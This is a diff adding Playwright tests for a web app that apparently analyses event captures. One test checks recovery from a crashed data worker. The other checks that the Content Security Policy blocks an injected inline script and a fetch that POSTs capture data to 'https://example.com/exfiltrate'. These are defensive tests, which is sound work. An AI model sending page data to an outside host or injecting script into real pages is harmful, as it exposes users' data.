@@ -1,0 +1,58 @@
+import { mkdtempSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { writeCapture } from '../scripts/generate-capture.mjs';
+import { expect, openCapture, openEmptyNotebook, test } from './fixtures';
+
+const dir = mkdtempSync(join(tmpdir(), 'etwlab-trust-'));
+const capture = join(dir, 'capture.jsonl');
+
+test.beforeAll(async () => {
+  await writeCapture({ events: 2000, seed: 5, days: 2, out: capture, format: 'jsonl' });
+});
+
+test('a crashed data worker shows an error and the app recovers without a reload', async ({ page }) => {
+  await openEmptyNotebook(page);
+  const first = await openCapture(page, capture);
+  expect(first).toMatch(/^Loaded 2,000 events/);
+  const worker = page.workers().find((w) => w.url().includes('data.worker'));
+  expect(worker, 'the data worker should be running').toBeDefined();
+  // An uncaught error inside the worker, as a bug or an exhausted heap would raise.
+  await worker?.evaluate(() => {
+    setTimeout(() => {
+      throw new Error('simulated worker failure');
+    }, 0);
+  });
+  await expect(page.locator('#load').getByRole('alert')).toContainText('The data worker stopped');
+  await expect(page.locator('#load').getByRole('alert')).toContainText('open it again');
+  await expect(page.getByTestId('load-status')).toHaveText('No capture loaded yet.');
+  // Same page, no reload: the restarted worker loads again.
+  expect(await openCapture(page, capture)).toBe(first);
+});
+
+test('the page sends nothing to another origin and allows no inline script', async ({ page }) => {
+  const csp = await page.goto('./?demo=0').then((response) => response?.headers()['content-security-policy'] ?? '');
+  expect(csp).toContain("default-src 'self'");
+  expect(csp).toContain("connect-src 'self'");
+  expect(csp).not.toContain("'unsafe-eval'");
+  // An injected inline script is refused by the policy (and reported as a console error, which
+  // this test expects and so allows).
+  test.info().annotations.push({ type: 'allow-console-error', description: 'Content Security Policy' });
+  const ran = await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.textContent = 'window.__inlineRan = true';
+    document.body.append(script);
+    return (window as unknown as { __inlineRan?: boolean }).__inlineRan === true;
+  });
+  expect(ran).toBe(false);
+  // A fetch to another origin is blocked by connect-src before it leaves the page.
+  const fetched = await page.evaluate(async () => {
+    try {
+      await fetch('https://example.com/exfiltrate', { method: 'POST', body: 'capture' });
+      return 'sent';
+    } catch {
+      return 'blocked';
+    }
+  });
+  expect(fetched).toBe('blocked');
+});
